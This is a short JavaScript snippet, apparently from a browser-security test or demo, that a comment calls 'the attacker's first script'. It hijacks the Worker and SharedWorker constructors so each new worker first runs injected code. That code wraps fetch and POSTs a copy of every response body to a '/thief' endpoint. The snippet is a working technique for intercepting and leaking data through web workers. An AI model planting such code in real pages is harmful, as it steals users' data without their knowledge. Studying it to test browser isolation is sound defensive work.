// The attacker's first script where it wants a vault of its own: every worker that the page starts is one that runs the
// attacker's words first, which tell the thief of each answer, and then the script that was asked for.
{
  const blob = (source) => URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
  const words = `
    const native = globalThis.fetch;
    globalThis.fetch = async (...given) => {
      const response = await native(...given);
      response.clone().text().then((body) => native("${location.origin}/thief", { method: "POST", body }));
      return response;
    };`;
  for (const name of ["Worker", "SharedWorker"]) {
    globalThis[name] = new Proxy(globalThis[name], {
      construct(target, [url, options]) {
        const wanted = new URL(url, location.href).href;
        const source = `import ${JSON.stringify(blob(words))}; import ${JSON.stringify(wanted)};`;
        return new target(blob(source), { type: "module", name: options.name });
      },
    });
  }
}
